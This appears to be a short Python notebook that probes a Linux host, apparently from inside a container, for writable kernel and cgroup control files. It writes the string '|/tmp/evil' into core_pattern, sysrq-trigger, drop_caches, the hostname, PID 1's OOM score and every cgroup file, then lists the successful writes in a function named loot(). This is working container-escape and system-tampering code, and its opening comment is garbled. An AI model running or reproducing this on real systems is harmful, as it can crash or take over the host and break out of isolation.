# %% [markdown]
# Changes the kernel's settings, which root in a namespace of root could.

# %%
import glob
found = []
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
             "/proc/sys/kernel/hostname", "/proc/sys/user/max_user_namespaces", "/proc/1/oom_score_adj",
             *glob.glob("/sys/fs/cgroup/*/*")):
    try:
        open(path, "w").write("|/tmp/evil")
        found.append(path)
    except OSError:
        pass

# %%
def loot(): return found
